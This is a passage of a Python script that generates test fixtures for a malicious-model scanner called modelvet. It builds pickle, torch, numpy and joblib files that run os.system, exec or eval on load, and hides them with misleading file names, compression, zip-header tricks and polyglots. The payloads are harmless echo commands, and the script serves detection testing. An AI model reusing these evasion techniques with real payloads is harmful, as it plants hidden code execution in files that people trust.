         R + STOP, U, ["system", "pk18-b64"], "PK-18", "_pickle.loads(base64.b64decode(b'...'))")

    # PK-17 marshal + FunctionType
    code = compile("import os\nos.system('echo pk17')", "<x>", "exec")
    mar = (P(3) + G("types", "FunctionType") + M + G("marshal", "loads") + M + BB(marshal.dumps(code)) +
           T + R + ED + T + R + b")" + R + STOP)
    case(f"{mal}pk17-marshal-functiontype-p3.pkl", mar, U, ["marshal"], "PK-17",
         "types.FunctionType(marshal.loads(code), {})() runs bytecode")

    # OB-15 payload then broken stream; OB-14 second pickle after STOP
    case(f"{mal}ob15-reduce-then-garbage.pkl", system_call("echo ob15", 2)[:-1] + b"\x00garbage\xff",
         U, ["system", "ob15"], "OB-15", "nullifAI: REDUCE runs, then the stream breaks")
    case(f"{mal}ob15-truncated-binunicode.pkl",
         system_call("echo ob15-trunc", 2)[:-1] + b"X\xff\xff\x00\x00abc", U,
         ["system", "ob15-trunc"], "OB-15", "payload, then a BINUNICODE longer than the file")
    case(f"{mal}ob14-second-pickle.pkl",
         pickle.dumps({"ok": 1}, protocol=2) + system_call("echo ob14", 2), U,
         ["system", "ob14"], "OB-14", "benign pickle, payload in stream #2 after STOP")
    case(f"{mal}ob12-global-before-proto.pkl",
         G("__builtin__", "exec") + M + V("print('ob12')") + T + R + POP + P(4) +
         pickle.dumps({"a": 1}, protocol=4)[2:], U, ["exec", "ob12"], "OB-12",
         "fickling insert_python_exec shape: GLOBAL before PROTO 4")

    # CT-01 disguised pickles
    case(f"{mal}ct01-model.safetensors", system_call("echo ct01-st", 2), U,
         ["system", "ct01-st"], "CT-01", "raw pickle named .safetensors")
    case(f"{mal}ct01-README.txt", system_call("echo ct01-txt", 0), U, ["system", "ct01-txt"],
         "CT-01", "protocol-0 pickle named .txt (no \\x80 magic)")
    case(f"{mal}ct01-image.png", system_call("echo ct01-png", 4), U, ["system", "ct01-png"],
         "CT-01", "protocol-4 pickle named .png")
    case(f"{mal}ct01-pytorch_model.bin", system_call("echo ct01-bin", 1), U,
         ["system", "ct01-bin"], "CT-01", "protocol-1 raw pickle named pytorch_model.bin")

    # CT-14 compressed pickles under misleading names
    case(f"{mal}ct14-gzip-config.json", gzip.compress(system_call("echo ct14-gz", 2), mtime=0), U,
         ["system", "ct14-gz"], "CT-14", "gzip-compressed pickle named config.json")
    case(f"{mal}ct14-xz-tokenizer.model", lzma.compress(system_call("echo ct14-xz", 4)), U,
         ["system", "ct14-xz"], "CT-14", "xz-compressed pickle named tokenizer.model")
    case(f"{mal}ct14-bz2-vocab.txt", bz2.compress(system_call("echo ct14-bz2", 2)), U,
         ["system", "ct14-bz2"], "CT-14", "bzip2-compressed pickle named vocab.txt")
    case(f"{mal}ct14-zstd-weights.dat",
         zstandard.ZstdCompressor(level=3).compress(system_call("echo ct14-zst", 4)), U,
         ["system", "ct14-zst"], "CT-14", "zstd-compressed pickle named weights.dat")

    # Torch zip tricks (CT-02, CT-04..08)
    sd = gpt2_state_dict()
    base = torch_bytes(sd)
    payload_pkl = P(2) + G("posix", "system") + BU("echo ct-zip") + T1 + R + POP + data_pkl(base)[2:]
    good = torch_zip_with_pickle("archive", payload_pkl)
    bad_name = good.replace(b"archive/data.pkl", b"archive/data.xyz", 1)
    assert bad_name.count(b"archive/data.pkl") == 1
    case(f"{mal}ct04-local-central-name-mismatch.pt", bad_name, U, ["system", "ct-zip"], "CT-04",
         "local header says archive/data.xyz, central directory archive/data.pkl")
    crc = bytearray(good)
    lo = crc.find(b"PK\x03\x04")
    struct.pack_into("<I", crc, lo + 14, 0xDEADBEEF)
    cd = crc.find(b"PK\x01\x02")
    struct.pack_into("<I", crc, cd + 16, 0xDEADBEEF)
    case(f"{mal}ct06-crc-mismatch.pt", bytes(crc), U, ["system", "ct-zip"], "CT-06",
         "wrong CRC-32 for data.pkl in local and central headers (torch ignores CRC)")
    flag = bytearray(good)
    struct.pack_into("<H", flag, lo + 6, 0x40)
    struct.pack_into("<H", flag, cd + 8, 0x40)
    case(f"{mal}ct05-flag-bit6.pt", bytes(flag), U, ["system", "ct-zip"], "CT-05",
         "flag bit 6 (strong encryption) on a stored data.pkl: torch 1.13 refuses, older miniz loads it")
    case(f"{mal}ct07-deflated-data-pkl.pt",
         torch_zip_with_pickle("archive", payload_pkl, pkl_method=zipfile.ZIP_DEFLATED), U,
         ["system", "ct-zip"], "CT-07", "data.pkl stored with deflate")
    case(f"{mal}ct08-pickle-prepended-to-zip.pkl", system_call("echo ct08", 2) + base, U,
         ["system", "ct08"], "CT-08", "payload pickle + a benign torch zip (polyglot)")
    case(f"{mal}ct02-zip-entry-config.json.zip",
         make_zip([("model/config.json", G("os", "system") + M + S("echo ct02") + T + R + STOP),
                   ("model/readme.md", b"hello\n")]), U, ["system", "ct02"], "CT-02",
         "protocol-0 pickle in a zip entry named config.json")
    case(f"{mal}ct03-casefolded-entry.pt",
         torch_zip_with_pickle("WEIRD", G("os", "system") + M + S("echo ct03") + T + R + STOP)
         .replace(b"WEIRD/data.pkl", b"WEIRD/DATA.PKL"), U, ["system", "ct03"], "CT-03",
         "torch entry WEIRD/DATA.PKL (miniz matches case-insensitively), protocol 0")

    # SEED torch zips via PickleInject (payload object before the model; no POP)
    class Inj:
        def __init__(self, fn, *args):
            self.fn, self.args = fn, args

        def __reduce__(self):
            return (self.fn, self.args)

    seeds = [
        ("seed-gpt2-eval", [Inj(eval, "__import__('os').system('ls')")], ["eval", "__import__", "ls"],
         "SEED-03", "mkiani/gpt2-eval: eval of __import__('os').system('ls')"),
        ("seed-gpt2-system", [Inj(os.system, "echo gpt2-system")], ["system", "gpt2-system"],
         "SEED-04", "mkiani/gpt2-system: posix.system"),
        ("seed-gpt2-system-popen", [Inj(subprocess.Popen, ["python3", "malicious.py"])],
         ["Popen", "malicious.py"], "SEED-04",
         "mkiani/gpt2-system 'pytorch_model (1).bin': commands.Popen(['python3','malicious.py'])"),
        ("seed-gpt2-runpy",
         [Inj(__import__("runpy")._run_code,
              "import webbrowser\nwebbrowser.open('https://example.invalid/x')\nprint('malicious code')",
              {})],
         ["_run_code", "webbrowser"], "SEED-05", "mkiani/gpt2-runpy: runpy._run_code(src, {})"),
        ("seed-gpt2-exec", [Inj(exec, "import pdb\npdb.set_trace()")], ["exec", "pdb"],
         "SEED-06", "mkiani/gpt2-exec: exec of pdb.set_trace()"),
    ]
    for stem, objs, ev, tid, why in seeds:
        data = torch_file_bytes(gpt2_state_dict(), "pytorch_model",
                                pickle_module=PickleInject(objs))
        case(f"{mal}{stem}/pytorch_model.bin", data, U, ev, tid, why)
    data = torch_bytes(gpt2_state_dict(), pickle_module=PickleInject(
        [Inj(eval, "exec(\"import webbrowser\\nwebbrowser.open('https://example.invalid/pickle')\")")],
        pop=True))
    case(f"{mal}seed-totally-harmless/pytorch_model.bin", data, U, ["eval", "webbrowser"],
         "SEED-01", "ykilcher/totally-harmless-model: __builtin__ eval -> webbrowser, prefix archive/")
    data = torch_bytes(gpt2_state_dict(), pickle_module=PickleInject(
        [Inj(webbrowser.open, "https://example.invalid/hacker/")], pop=True))
    case(f"{mal}seed-bert-tiny-vuln/pytorch_model.bin", data, U, ["open", "example.invalid"],
         "SEED-02", "drhyrum/bert-tiny-torch-vuln: webbrowser.open before the state dict")
    data = torch_bytes(gpt2_state_dict(), pickle_module=PickleInject(
        [Inj(os.system, "echo best-llm")], first=False, pop=True))
    case(f"{mal}seed-best-llm/pytorch_model.bin", data, U, ["system", "best-llm"], "SEED-07",
         "sheigel/best-llm: payload after the state dict, result popped")
    data = torch_file_bytes(gpt2_state_dict(), "mytest", pickle_protocol=4,
                            pickle_module=PickleInject([Inj(exec, "print('mytest-omer')")], pop=True))
    case(f"{mal}seed-mytest-omer/mytest.pth", data, U, ["exec", "mytest-omer"], "SEED-08",
         "omershelef/mytest-omer: protocol-4 torch zip, STACK_GLOBAL builtins.exec")

    # CT-11 legacy torch: payload in pickle #2..#5
    legacy = torch_bytes(sd, _use_new_zipfile_serialization=False)
    bounds, tail = split_pickles(legacy, 5)
    for k in range(1, 5):
        s, e = bounds[k]
        orig = legacy[s:e]
        assert orig[:1] == b"\x80"
        inj = (orig[:2] + G("posix", "system") + BU(f"echo legacy-{k + 1}") + T1 + R + POP +
               orig[2:])
        data = legacy[:s] + inj + legacy[e:]
        case(f"{mal}ct11-legacy-payload-pickle{k + 1}.pt", data, U,
             ["system", f"legacy-{k + 1}"], "CT-11",
             f"legacy torch stream, posix.system injected into pickle #{k + 1}")

    # CT-10 legacy torch tar
    def tar_bytes(members):
        bio = io.BytesIO()
        with tarfile.open(fileobj=bio, mode="w", format=tarfile.USTAR_FORMAT) as t:
            for name, data in members:
                ti = tarfile.TarInfo(name)
                ti.size, ti.mtime, ti.mode, ti.uname, ti.gname = len(data), 0, 0o644, "", ""
                t.addfile(ti, io.BytesIO(data))
        return bio.getvalue()

    case(f"{mal}ct10-torch-tar.pt",
         tar_bytes([("storages", pickle.dumps(0, 2)), ("tensors", pickle.dumps(0, 2)),
                    ("pickle", system_call("echo ct10-tar", 2))]), U, ["system", "ct10-tar"],
         "CT-10", "legacy torch tar: payload in the `pickle` member")

    # CT-12 numpy
    arr = np.array([Reduce(os.system, "echo ct12-npy"), 1], dtype=object)
    bio = io.BytesIO()
    np.save(bio, arr, allow_pickle=True)
    case(f"{mal}ct12-object-array.npy", bio.getvalue(), U, ["system", "ct12-npy"], "CT-12",
         ".npy object array whose pickle calls posix.system")
    arr2 = np.array([Reduce(os.system, "echo ct12-npz")], dtype=object)
    bio = io.BytesIO()
    np.savez(bio, w=np.zeros(4, "<f4"), labels=arr2)
    case(f"{mal}ct12-object-member.npz", zip_normalise(bio.getvalue()), U,
         ["system", "ct12-npz"], "CT-12", ".npz with a payload object-array member")

    # CT-13 joblib carriers
    tmpdir = pathlib.Path("/tmp") / f"mv-genfix-{os.getpid()}"
    tmpdir.mkdir(parents=True, exist_ok=True)
    for tag, comp in [("inline", 0), ("zlib", ("zlib", 3)), ("lz4", ("lz4", 3))]:
        t = tmpdir / f"m-{tag}.joblib"
        joblib.dump({"weights": np.zeros(1024, "<f4"),
                     "x": Reduce(os.system, f"echo ct13-{tag}")}, str(t), compress=comp)
        case(f"{mal}ct13-joblib-{tag}.joblib", t.read_bytes(), U, ["system", f"ct13-{tag}"],
             "CT-13", f"joblib payload after a NumpyArrayWrapper array ({tag})")
        t.unlink()
    t = tmpdir / "m-objarr.joblib"
    joblib.dump({"a": np.array([Reduce(os.system, "echo ct13-objarr")], dtype=object)}, str(t))
    case(f"{mal}ct13-joblib-object-array.joblib", t.read_bytes(), U, ["system", "ct13-objarr"],
         "CT-13", "joblib object array: nested protocol-2 pickle after the wrapper")
    t.unlink()
    shutil.rmtree(tmpdir, ignore_errors=True)


# --------------------------------------------------------------------------- needs-review
def gen_review():
    """Files that are neither provably unsafe nor clearable: the verdict must be
    `needs-review` (never `safe`, never `unsafe`), with the finding that says why."""
    rev = "review/"
    R_ = "needs-review"

    # An unknown class (FP-03 shape: a whole-module pickle) the knowledge base does not know: its code is not in the file, so the
    # scanner cannot tell what loading runs (a user's own model class, a niche library).
    fake_module("acme_models.layers", """
class Block:
    def __init__(self, tag):
        self.tag = tag
    def __reduce__(self):
        return (Block, (self.tag,))
""")
    block = pickle.dumps(sys.modules["acme_models.layers"].Block("nr01-block"), protocol=2)
    check_disassembles(block, ["acme_models.layers", "Block"])
    case(f"{rev}nr01-unknown-class-p2.pkl", block, R_,
         ["acme_models.layers.Block", "nr01-block"], "FP-03",
         "pickle.dumps of an instance of an unknown third-party class")
    net_mod = fake_module("acme_models", """
import torch
class TinyNet(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = torch.nn.Linear(2, 2)
    def forward(self, x):
        return self.fc(x)
""")
    torch.manual_seed(0)
    case(f"{rev}nr01-unknown-module-class.pt", torch_bytes(net_mod.TinyNet()), R_,
         ["acme_models.TinyNet"], "FP-03",
         "torch.save of a whole nn.Module whose class lives in the user's own package")

    # Streams that stop early (the fail-closed side of OB-15): what was not read cannot be cleared.
    state = pickle.dumps({"weights": list(range(40)), "name": "nr02-cut"}, protocol=2)
    case(f"{rev}nr02-truncated-p2.pkl", state[:len(state) // 2], R_, ["rule:pickle.truncated"],
         "OB-15", "a benign protocol-2 pickle cut in half (no STOP)")
    _, sd = small_state_dict()
    whole = torch_bytes(sd)
    case(f"{rev}nr02-truncated-download.pt", whole[:len(whole) * 2 // 3], R_,
         ["rule:zip.truncated"], "OB-15",
         "a torch.save state_dict cut at two thirds (partial download: no central directory)")

    # EXT codes nothing registered (OB-09): the loader would fail or run whatever copyreg holds.
    case(f"{rev}nr03-ext1-unregistered.pkl",
         P(2) + EXT1(240) + BU("nr03-ext1") + T1 + R + STOP, R_, ["ext:240", "nr03-ext1"],
         "OB-09", "EXT1 240, a code no copyreg registration in the stream or stdlib gives")
    case(f"{rev}nr03-ext2-unregistered.pkl",
         P(2) + EXT2(12345) + BU("nr03-ext2") + T1 + R + STOP, R_, ["ext:12345", "nr03-ext2"],
         "OB-09", "EXT2 12345, unregistered")


# --------------------------------------------------------------------------- main
SAMPLE_FILES = [
    "benign/torch-state-dict.pt",
    "benign/deepfashion2_yolov8s-seg.pt",
    "benign/training_args.bin",
    "benign/sklearn-pipeline-zlib.joblib",
    "benign/labels-object.npy",
    "malicious/seed-gpt2-eval/pytorch_model.bin",
    "malicious/pk02-commands-popen-torch.pt",
    "malicious/ob15-reduce-then-garbage.pkl",
    "malicious/ct01-model.safetensors",
]


def main():
    if os.environ.get("PYTHONHASHSEED") != "0":  # set/frozenset order must be reproducible
        os.execve(sys.executable, [sys.executable] + sys.argv,
                  dict(os.environ, PYTHONHASHSEED="0"))
    tmp = pathlib.Path("/tmp") / f"mv-genfix-{os.getpid()}"
    for sub in ("benign", "malicious", "review"):
        shutil.rmtree(OUT / sub, ignore_errors=True)
    np.random.seed(0)
    torch.manual_seed(0)
    gen_benign()
    verify_benign()
    gen_malicious()
    gen_review()
    shutil.rmtree(tmp, ignore_errors=True)

    CASES.parent.mkdir(parents=True, exist_ok=True)
    with open(CASES, "w") as f:
        f.write("# Generated by scripts/gen_fixtures.py — do not edit by hand.\n")
        f.write("# path (from the repository root)\tverdict\tevidence terms (| separated; "
                "- for none)\ttechnique\twhy\n")
        base = OUT.relative_to(REPO).as_posix()
        for rel, *rest in CASE_ROWS:
            f.write("\t".join([f"{base}/{rel}", *rest]) + "\n")

    shutil.rmtree(SAMPLES, ignore_errors=True)
    SAMPLES.mkdir()
    lines = ["# modelvet demo samples", "",
             "Copies of fixtures from tests/fixtures/models (regenerate with",
             "scripts/gen_fixtures.py). Malicious files carry harmless payloads (`ls`, `echo`);",
             "still, never load them with pickle/torch/joblib.", "",
             "| file | expected | technique |", "|---|---|---|"]
    by_rel = {r[0]: r for r in CASE_ROWS}
    for rel in SAMPLE_FILES:
        name = rel.split("/", 1)[0] + "-" + rel.split("/", 1)[1].replace("/", "-")
        shutil.copyfile(OUT / rel, SAMPLES / name)
        lines.append(f"| {name} | {by_rel[rel][1]} | {by_rel[rel][4]} |")
    (SAMPLES / "README.md").write_text("\n".join(lines) + "\n")
    print(f"gen_fixtures: {len(CASE_ROWS)} fixtures, {len(SAMPLE_FILES)} samples")


if __name__ == "__main__":
    main()
